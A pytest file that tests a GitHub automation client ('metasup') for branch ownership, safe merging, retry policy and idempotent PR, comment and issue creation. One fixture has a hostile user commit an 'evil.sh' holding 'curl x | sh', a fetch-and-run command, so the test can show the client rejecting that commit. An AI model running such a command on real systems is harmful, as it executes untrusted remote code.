"""metasup.github acts only on what it wrote, and survives GitHub's failures (SPEC §5 "Acting safely",
"Acting reliably"), against the fake GitHub."""

from __future__ import annotations

import pytest
from fakegithub import ACTIONS_TOKEN, PAT_TOKEN, FakeGitHub, Repo, RequestInfo

from metasup.github import (
    BranchNotOurs,
    GitHubClient,
    GitHubUnavailable,
    HeadMoved,
    MergedMeanwhile,
    NotPermitted,
    PullAlreadyExists,
    PullCreationNotPermitted,
    RateLimited,
    close_pull,
    commit_change,
    connect,
    fit_body,
    is_exact_change,
    list_pull_facts,
    merge_pull,
    open_or_find_pull,
    open_pull,
    own_login,
    point_branch,
    read_state,
    read_text,
    update_pull_body,
    upsert_comment,
    upsert_issue,
    write_state,
)

REPO = "octo-org/fleet"
MARKER = "<!-- metasup-review -->"
LIMIT = 65_536


class Sleeps(list[float]):
    """A fake ``sleep`` that records the waits instead of sleeping."""

    def __call__(self, seconds: float) -> None:
        self.append(seconds)


def client(fake: FakeGitHub, token: str = PAT_TOKEN, budget: float = 120.0) -> tuple[GitHubClient, Sleeps]:
    sleeps = Sleeps()
    return connect(token, fake.url, wait_budget=budget, sleep=sleeps), sleeps


def promote_branch(gh: GitHubClient, fake: FakeGitHub, agent: str = "alpha") -> tuple[str, str]:
    branch = f"metasup/promote/{agent}"
    sha = commit_change(gh, REPO, fake.ref_sha(REPO, "main"), "agents.yaml", f"{agent}: prod\n", "m")
    point_branch(gh, REPO, branch, sha, lambda head: False)  # a new branch: nothing to replace
    return branch, sha


def open_promotion(fake: FakeGitHub) -> tuple[GitHubClient, int, str]:
    """A client, and metasup's [AUTO-PROMOTE] PR for ``alpha`` with its head commit."""
    gh, _ = client(fake)
    branch, sha = promote_branch(gh, fake)
    number, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    return gh, number, sha


# -- 0. metasup's own commits and branches ----------------------------------------------------------


def test_point_branch__never_moves_a_branch_from_a_commit_metasup_did_not_write(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    branch, first = promote_branch(gh, fake_github)
    bobs = fake_github.commit_files(REPO, branch, {"agents.yaml": "alpha: prod\nbob: fix\n"}, user="bob")
    mine = commit_change(gh, REPO, fake_github.ref_sha(REPO, "main"), "agents.yaml", "alpha: prod\n", "again")

    with pytest.raises(BranchNotOurs, match=f"holds commit {bobs[:12]}, which metasup did not write"):
        point_branch(gh, REPO, branch, mine, lambda head: head == first)
    assert fake_github.ref_sha(REPO, branch) == bobs  # bob's work stays

    point_branch(gh, REPO, branch, mine, lambda head: head in (first, bobs))
    assert fake_github.ref_sha(REPO, branch) == mine


def test_is_exact_change__only_the_parent_with_those_files_and_nothing_else(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    main = fake_github.ref_sha(REPO, "main")
    change = {"agents.yaml": "alpha: prod\n"}
    mine = commit_change(gh, REPO, main, "agents.yaml", change["agents.yaml"], "metasup's message")
    assert is_exact_change(gh, REPO, mine, main, change)

    fake_github.create_branch(REPO, "mallory")
    extra = fake_github.commit_files(REPO, "mallory", {**change, "evil.sh": "curl x | sh\n"}, user="mallory")
    assert not is_exact_change(gh, REPO, extra, main, change)  # one file more
    other_text = fake_github.commit_files(REPO, "mallory", {"agents.yaml": "alpha: prod \n"}, user="mallory")
    assert not is_exact_change(gh, REPO, other_text, extra, change)  # the file differs
    later = fake_github.commit_files(REPO, "main", {"README.md": "# changed\n"})
    assert not is_exact_change(gh, REPO, mine, later, change)  # another parent
    same_tree = fake_github.commit_files(REPO, "mallory", {"evil.sh": None, **change}, user="mallory")
    assert fake_github.client().get_repo(REPO).get_git_commit(same_tree).tree.sha == (
        fake_github.client().get_repo(REPO).get_git_commit(mine).tree.sha
    )
    assert not is_exact_change(gh, REPO, same_tree, main, change)  # the right tree, three commits on


# -- 1. merging sends sha ----------------------------------------------------------------------------


def test_merge__sends_the_recorded_head_sha(fake_github: FakeGitHub, fake_repo: Repo) -> None:
    gh, number, sha = open_promotion(fake_github)
    assert merge_pull(gh, REPO, number, "Promote alpha", expected_head_sha=sha)
    (merge,) = fake_github.requests("PUT", "/repos/*/pulls/*/merge")
    assert merge.body["sha"] == sha
    assert fake_github.issue(REPO, number).pull is not None
    assert fake_github.issue(REPO, number).pull.merged  # type: ignore[union-attr]


def test_merge__a_head_moved_before_the_merge_is_never_merged(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, number, sha = open_promotion(fake_github)
    fake_github.push_to_pull(REPO, number, {"agents.yaml": "alpha: prod\nbeta: prod\n"}, user="bob")
    with pytest.raises(HeadMoved, match=f"#{number}"):
        merge_pull(gh, REPO, number, "Promote alpha", expected_head_sha=sha)
    assert not fake_github.issue(REPO, number).pull.merged  # type: ignore[union-attr]


def test_merge__a_push_racing_the_merge_is_a_409_reported_as_head_moved(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, number, sha = open_promotion(fake_github)

    def push(fake: FakeGitHub, info: RequestInfo) -> None:
        fake.push_to_pull(REPO, number, {"agents.yaml": "alpha: prod\nmallory: prod\n"}, user="mallory")

    fake_github.before_request(push, method="PUT", path="/repos/*/pulls/*/merge")
    with pytest.raises(HeadMoved):
        merge_pull(gh, REPO, number, "Promote alpha", expected_head_sha=sha)
    assert [r.status for r in fake_github.requests("PUT", "/repos/*/pulls/*/merge")] == [409]
    assert not fake_github.issue(REPO, number).pull.merged  # type: ignore[union-attr]


def test_merge__a_person_merging_first_is_not_taken_for_metasups_merge(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    """alice merged the PR after the run listed it and before its own merge call: GitHub answered
    405, and the check meant for metasup's own retried merge said "merged, same head" — recorded
    as ``merged_by: metasup`` (found by an audit). Only a merge by metasup's login is its own."""
    gh, number, sha = open_promotion(fake_github)

    def alice_merges(fake: FakeGitHub, info: RequestInfo) -> None:
        fake.merge(REPO, number, user="alice", method="squash")

    fake_github.before_request(alice_merges, method="PUT", path="/repos/*/pulls/*/merge")
    with pytest.raises(MergedMeanwhile, match=f"PR #{number} was merged by alice"):
        merge_pull(gh, REPO, number, "Promote alpha", expected_head_sha=sha)
    assert fake_github.issue(REPO, number).pull.merged_by == "alice"  # type: ignore[union-attr]


def test_merge__metasups_own_merge_whose_answer_was_lost_is_its_own(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, number, sha = open_promotion(fake_github)
    fake_github.fail_next(1, method="PUT", path="/repos/*/pulls/*/merge", after_handling=True)
    assert merge_pull(gh, REPO, number, "Promote alpha", expected_head_sha=sha)


def test_close_pull__a_run_that_died_before_the_close_does_not_explain_twice(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    """A run posted the withdrawal's explanation and died before closing: the next run posted it
    again (found by an audit). The explanation metasup already posted is kept."""
    gh, _ = client(fake_github)
    branch, _ = promote_branch(gh, fake_github)
    number, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    fake_github.fail_next(1000, method="PATCH", path="/repos/*/pulls/*", status=502)
    with pytest.raises(GitHubUnavailable):
        close_pull(gh, REPO, number, "metasup closed this PR: the gates no longer pass", "metasup-withdrawn")
    fake_github.clear_faults()

    close_pull(gh, REPO, number, "metasup closed this PR: the gates no longer pass", "metasup-withdrawn")

    assert [c.body for c in fake_github.comments(REPO, number)] == [
        "metasup closed this PR: the gates no longer pass"
    ]
    assert fake_github.issue(REPO, number).state == "closed"


def test_errors__a_refused_token_on_a_read_is_not_called_a_failed_write(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    """An expired token made a read fail with "cannot write the pull request list" (found by an
    audit): a 401 says the token was refused, whatever the call."""
    gh, _ = client(fake_github, token="ghs_expired")
    with pytest.raises(NotPermitted) as refused:
        list_pull_facts(gh, REPO, ("metasup/",))
    message = str(refused.value)
    assert "GitHub refused the token" in message
    assert "401" in message
    assert "cannot write" not in message


# -- 2. ownership facts ------------------------------------------------------------------------------


def test_own_login__the_token_user_or_exactly_github_actions_bot(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    assert own_login(client(fake_github)[0]) == "octocat"
    assert own_login(client(fake_github, ACTIONS_TOKEN)[0]) == "github-actions[bot]"


def test_pull_facts__tell_metasups_pr_from_forks_other_bots_and_moved_heads(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github, ACTIONS_TOKEN)
    branch, sha = promote_branch(gh, fake_github, "alpha")
    ours, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    # a fork using metasup's branch name
    fake_github.fork_repo(REPO, "alice")
    fake_github.create_branch("alice/fleet", "metasup/promote/beta")
    fake_github.commit_files(
        "alice/fleet", "metasup/promote/beta", {"agents.yaml": "beta: prod\n"}, user="alice"
    )
    fork = fake_github.open_pull(REPO, "alice:metasup/promote/beta", user="alice").number
    # another bot using such a branch in the base repository
    fake_github.create_branch(REPO, "metasup/promote/gamma")
    fake_github.commit_files(REPO, "metasup/promote/gamma", {"agents.yaml": "g\n"}, user="renovate[bot]")
    other_bot = fake_github.open_pull(REPO, "metasup/promote/gamma", user="renovate[bot]").number

    login = own_login(gh)
    facts = {f.state.number: f for f in list_pull_facts(gh, REPO, ("metasup/promote/",))}
    assert set(facts) == {ours, fork, other_bot}
    mine = facts[ours]
    assert (mine.author_login, mine.author_type, mine.head_sha) == ("github-actions[bot]", "Bot", sha)
    assert mine.head_repo_full_name == mine.base_repo_full_name == REPO
    assert mine.is_metasups(login, sha, "main")
    assert facts[fork].head_repo_full_name == "alice/fleet"
    assert not facts[fork].is_metasups(login, facts[fork].head_sha, "main")
    assert facts[other_bot].author_login == "renovate[bot]"
    assert facts[other_bot].author_type == "Bot"
    assert not facts[other_bot].is_metasups(login, facts[other_bot].head_sha, "main")
    assert not mine.is_metasups(login, None, "main")  # nothing recorded: not provably ours
    assert not mine.is_metasups(login, sha, "release")  # opened into another branch: not ours

    fake_github.push_to_pull(REPO, ours, {"agents.yaml": "alpha: prod\nx: prod\n"}, user="bob")
    (moved,) = [f for f in list_pull_facts(gh, REPO, ("metasup/promote/",)) if f.state.number == ours]
    assert not moved.is_metasups(login, sha, "main")


# -- 3. comments -------------------------------------------------------------------------------------


def test_comment__another_bots_comment_with_the_marker_is_left_alone(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    issue = fake_github.create_issue(REPO, "review me").number
    foreign = fake_github.add_comment(REPO, issue, f"{MARKER}\nrenovate's", user="renovate[bot]")
    gh, _ = client(fake_github, ACTIONS_TOKEN)

    first = upsert_comment(gh, REPO, issue, f"{MARKER}\nreport 1", MARKER)
    second = upsert_comment(gh, REPO, issue, f"{MARKER}\nreport 2", MARKER)

    assert (first.action, second.action) == ("created", "updated")
    assert first.comment_id == second.comment_id != foreign.id
    assert second.deleted_duplicates == []
    bodies = {c.id: (c.user, c.body) for c in fake_github.comments(REPO, issue)}
    assert bodies == {
        foreign.id: ("renovate[bot]", f"{MARKER}\nrenovate's"),
        first.comment_id: ("github-actions[bot]", f"{MARKER}\nreport 2"),
    }


def test_comment__deleted_after_it_was_listed_is_written_again(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    """A person deletes our comment while the run renders: the edit answers 404. The PR must end
    with our comment, not none (the 404 was read as "not permitted" and the run gave up)."""
    issue = fake_github.create_issue(REPO, "review me").number
    gh, _ = client(fake_github, ACTIONS_TOKEN)
    first = upsert_comment(gh, REPO, issue, f"{MARKER}\nreport 1", MARKER)

    def a_person_deletes_it(fake: FakeGitHub, info: RequestInfo) -> None:
        with fake.lock:
            fake.repo(REPO).comments.pop(first.comment_id)

    fake_github.before_request(a_person_deletes_it, method="PATCH", path=f"/repos/{REPO}/issues/comments/*")

    second = upsert_comment(gh, REPO, issue, f"{MARKER}\nreport 2", MARKER)

    assert second.action == "created"
    assert [c.body for c in fake_github.comments(REPO, issue)] == [f"{MARKER}\nreport 2"]


def test_dashboard__another_bots_issue_with_the_marker_is_left_alone(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    foreign = fake_github.create_issue(REPO, "Dashboard", f"{MARKER}\nnot ours", user="renovate[bot]").number
    gh, _ = client(fake_github, ACTIONS_TOKEN)
    number, action = upsert_issue(gh, REPO, "metasup dashboard", f"{MARKER}\nours", MARKER)
    assert action == "created"
    assert number != foreign
    assert fake_github.issue(REPO, foreign).body == f"{MARKER}\nnot ours"


# -- 4. state of any size ----------------------------------------------------------------------------


def test_state__a_ledger_over_5_mb_is_read_intact(fake_github: FakeGitHub, fake_repo: Repo) -> None:
    gh, _ = client(fake_github)
    line = '{"seq":%d,"event":"promotion_proposed","subject":"agent-é","data":{"pad":"%s"}}\n'
    ledger = "".join(line % (i, "x" * 200) for i in range(25_000))
    assert len(ledger.encode()) >= 5_000_000
    head = write_state(gh, REPO, "metasup-state", {"ledger.jsonl": ledger, "snapshots/main.json": "{}"}, None)
    state = read_state(gh, REPO, "metasup-state", ["ledger.jsonl", "snapshots/main.json", "snapshots/x.json"])
    assert state.head == head
    assert state.files == {"ledger.jsonl": ledger, "snapshots/main.json": "{}"}
    assert read_text(gh, REPO, "ledger.jsonl", head) == ledger


# -- 5. one retry policy -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/repos/*/issues/*/comments"),
        ("POST", "/repos/*/git/blobs"),
        ("PATCH", "/repos/*/issues/comments/*"),
        ("DELETE", "/repos/*/issues/comments/*"),
        ("PUT", "/repos/*/pulls/*/merge"),
    ],
)
@pytest.mark.parametrize("status", [500, 502, 503])
def test_retry__every_method_is_retried_on_5xx(
    fake_github: FakeGitHub, fake_repo: Repo, method: str, path: str, status: int
) -> None:
    gh, sleeps = client(fake_github)
    branch, sha = promote_branch(gh, fake_github)
    number, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    upsert_comment(gh, REPO, number, f"{MARKER}\n1", MARKER)
    upsert_comment(gh, REPO, number, f"{MARKER}\n1", MARKER)  # settle the label/listing calls
    fake_github.add_comment(REPO, number, f"{MARKER}\nduplicate", user="octocat")  # a racing run's copy
    fake_github.fail_next(2, method=method, path=path, status=status)

    upsert_comment(gh, REPO, number, f"{MARKER}\n2", MARKER)  # GET, PATCH, DELETE
    write_state(gh, REPO, "metasup-state", {"ledger.jsonl": "x\n"}, None)  # POST blob
    assert merge_pull(gh, REPO, number, "Promote", expected_head_sha=sha)  # PUT

    assert [c.body for c in fake_github.comments(REPO, number)] == [f"{MARKER}\n2"]
    assert len([r for r in fake_github.requests(method) if r.status == status]) == 2
    assert len(sleeps) == 2
    assert sum(sleeps) <= 120


@pytest.mark.parametrize("status", [403, 429])
def test_retry__secondary_rate_limit_honours_retry_after(
    fake_github: FakeGitHub, fake_repo: Repo, status: int
) -> None:
    gh, sleeps = client(fake_github)
    issue = fake_github.create_issue(REPO, "t").number
    upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER)
    fake_github.secondary_rate_limit(1, method="PATCH", retry_after=7, status=status)
    assert upsert_comment(gh, REPO, issue, f"{MARKER}\n2", MARKER).action == "updated"
    assert sleeps == [7]


@pytest.mark.parametrize("status", [403, 429])
def test_retry__primary_rate_limit_waits_until_the_reset(
    fake_github: FakeGitHub, fake_repo: Repo, status: int
) -> None:
    gh, sleeps = client(fake_github)
    fake_github.primary_rate_limit(1, method="POST", path="/repos/*/git/blobs", status=status, reset_in=30)
    write_state(gh, REPO, "metasup-state", {"ledger.jsonl": "x\n"}, None)
    assert len(sleeps) == 1
    assert 28 <= sleeps[0] <= 32


def test_retry__a_primary_limit_beyond_the_budget_is_a_rate_limit_not_a_permission_problem(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, sleeps = client(fake_github)
    issue = fake_github.create_issue(REPO, "t").number
    fake_github.primary_rate_limit(1, method="GET", path="/repos/*/issues/*/comments", reset_in=300)
    with pytest.raises(RateLimited) as caught:
        upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER)
    assert not isinstance(caught.value, NotPermitted)
    assert f"GET /repos/{REPO}/issues/{issue}/comments" in str(caught.value)
    assert "rate limit" in str(caught.value)
    assert "403" in str(caught.value)
    assert sleeps == []


def test_retry__when_retries_run_out_one_error_names_the_call_and_status(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, sleeps = client(fake_github, budget=5.0)
    issue = fake_github.create_issue(REPO, "t").number
    fake_github.fail_next(1000, method="GET", path="/repos/*/issues/*/comments", status=503)
    with pytest.raises(GitHubUnavailable) as caught:
        upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER)
    message = str(caught.value)
    assert f"GET /repos/{REPO}/issues/{issue}/comments" in message
    assert "503" in message
    assert sum(sleeps) <= 5.0
    assert caught.value.__cause__ is None
    assert caught.value.__suppress_context__


def test_retry__a_lost_answer_to_a_comment_creation_does_not_post_twice(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _sleeps = client(fake_github)
    issue = fake_github.create_issue(REPO, "t").number
    fake_github.fail_next(1, method="POST", path="/repos/*/issues/*/comments", after_handling=True)
    outcome = upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER)
    assert [c.body for c in fake_github.comments(REPO, issue)] == [f"{MARKER}\n1"]
    assert outcome.comment_id == fake_github.comments(REPO, issue)[0].id
    assert len(fake_github.requests("POST", "/repos/*/issues/*/comments")) == 1


def test_retry__a_lost_answer_to_a_pr_creation_does_not_open_two(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    branch, _ = promote_branch(gh, fake_github)
    fake_github.fail_next(1, method="POST", path="/repos/*/pulls", after_handling=True)
    number, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    assert [p.number for p in fake_github.pulls(REPO)] == [number]
    assert fake_github.issue(REPO, number).labels == ["auto-promote"]


def test_retry__a_lost_answer_to_an_issue_creation_does_not_open_two(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    fake_github.fail_next(1, method="POST", path="/repos/*/issues", after_handling=True)
    number, _ = upsert_issue(gh, REPO, "metasup dashboard", f"{MARKER}\nours", MARKER)
    issues = [i for i in fake_github.repo(REPO).issues.values() if i.pull is None]
    assert [i.number for i in issues] == [number]


def test_retry__an_answer_cut_off_mid_body_is_asked_again(fake_github: FakeGitHub, fake_repo: Repo) -> None:
    """The connection closed halfway through an answer's body (a proxy, a network cut): requests
    raised ChunkedEncodingError after urllib3's retries were done, and the run ended as "a bug in
    metasup" (found by an audit). The read is retried like any connection error."""
    gh, sleeps = client(fake_github)
    issue = fake_github.create_issue(REPO, "t").number
    fake_github.cut_body_next(1, method="GET", path="/repos/*/issues/*/comments")
    assert upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER).action == "created"
    assert [c.body for c in fake_github.comments(REPO, issue)] == [f"{MARKER}\n1"]
    assert len(sleeps) == 1  # the cut-off list, asked again once


def test_retry__a_cut_off_answer_to_a_pr_creation_does_not_open_two(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    branch, _ = promote_branch(gh, fake_github)
    fake_github.cut_body_next(1, method="POST", path="/repos/*/pulls")
    number, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    assert [p.number for p in fake_github.pulls(REPO)] == [number]
    assert len(fake_github.requests("POST", "/repos/*/pulls")) == 1


def test_retry__answers_cut_off_every_time_end_in_one_named_error(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    issue = fake_github.create_issue(REPO, "t").number
    fake_github.cut_body_next(1000, method="GET", path="/repos/*/issues/*/comments")
    with pytest.raises(GitHubUnavailable) as caught:
        upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER)
    assert f"GET /repos/{REPO}/issues/{issue}/comments" in str(caught.value)
    assert "connection error" in str(caught.value)


def test_retry__a_creation_failing_before_it_landed_is_retried(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, sleeps = client(fake_github)
    issue = fake_github.create_issue(REPO, "t").number
    fake_github.fail_next(2, method="POST", path="/repos/*/issues/*/comments", status=502)
    assert upsert_comment(gh, REPO, issue, f"{MARKER}\n1", MARKER).action == "created"
    assert [c.body for c in fake_github.comments(REPO, issue)] == [f"{MARKER}\n1"]
    assert len(sleeps) == 2


# -- 6. a PR that already exists, PR creation refused -------------------------------------------------


def test_open_pull__an_existing_pr_for_the_branch_is_returned(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    branch, sha = promote_branch(gh, fake_github)
    first, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    again = open_or_find_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    assert (again.number, again.created) == (first, False)
    assert again.facts is not None
    assert again.facts.is_metasups(own_login(gh), sha, "main")
    with pytest.raises(PullAlreadyExists) as caught:
        open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    assert caught.value.existing is not None
    assert caught.value.existing.state.number == first


def test_open_pull__someone_elses_pr_on_the_branch_is_returned_as_not_ours(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github, ACTIONS_TOKEN)
    fake_github.create_branch(REPO, "metasup/promote/alpha")
    fake_github.commit_files(REPO, "metasup/promote/alpha", {"agents.yaml": "a\n"}, user="bob")
    theirs = fake_github.open_pull(REPO, "metasup/promote/alpha", user="bob").number
    found = open_or_find_pull(gh, REPO, "metasup/promote/alpha", "main", "t", "b", "auto-promote")
    assert (found.number, found.created) == (theirs, False)
    assert found.facts is not None
    assert not found.facts.is_metasups(own_login(gh), found.facts.head_sha, "main")
    assert fake_github.issue(REPO, theirs).labels == []  # not labelled


def test_open_pull__actions_not_permitted_to_create_prs_is_a_clear_error(fake_github: FakeGitHub) -> None:
    fake_github.create_repo(REPO, {"README.md": "x\n"}, actions_can_create_prs=False)
    gh, _ = client(fake_github, ACTIONS_TOKEN)
    branch, _ = promote_branch(gh, fake_github)
    with pytest.raises(PullCreationNotPermitted, match="Allow GitHub Actions to create and approve"):
        open_pull(gh, REPO, branch, "main", "t", "b", "auto-promote")


# -- 7. bodies and labels ----------------------------------------------------------------------------


def test_fit_body__truncates_with_a_pointer() -> None:
    assert fit_body("short") == "short"
    fitted = fit_body("x" * 100_000, pointer="see the job summary")
    assert len(fitted) == LIMIT
    assert fitted.endswith("see the job summary")
    assert len(fit_body("é" * 70_000, limit=1000)) == 1000


def test_bodies__every_written_body_fits(fake_github: FakeGitHub, fake_repo: Repo) -> None:
    gh, _ = client(fake_github)
    huge = MARKER + "\n" + "| row |\n" * 20_000
    branch, _ = promote_branch(gh, fake_github)
    number, _ = open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", huge, "auto-promote")
    assert not update_pull_body(gh, REPO, number, huge)  # unchanged: the fitted body is current
    assert update_pull_body(gh, REPO, number, huge.replace("| row |", "| new |", 1))
    upsert_comment(gh, REPO, number, huge, MARKER)
    assert upsert_comment(gh, REPO, number, huge, MARKER).action == "unchanged"
    dashboard, _ = upsert_issue(gh, REPO, "dashboard", huge, MARKER)
    bodies = [
        fake_github.issue(REPO, number).body,
        fake_github.issue(REPO, dashboard).body,
        *[c.body for c in fake_github.comments(REPO, number)],
    ]
    for body in bodies:
        assert body is not None
        assert len(body) <= LIMIT
        assert body.startswith(MARKER)
        assert "job summary" in body.splitlines()[-1]


def test_labels__a_missing_label_is_created_with_colour_and_description(
    fake_github: FakeGitHub, fake_repo: Repo
) -> None:
    gh, _ = client(fake_github)
    branch, _ = promote_branch(gh, fake_github)
    open_pull(gh, REPO, branch, "main", "[AUTO-PROMOTE] alpha", "body", "auto-promote")
    label = fake_github.repo(REPO).labels["auto-promote"]
    assert (label.color, label.description) == ("5319e7", "Opened by metasup")
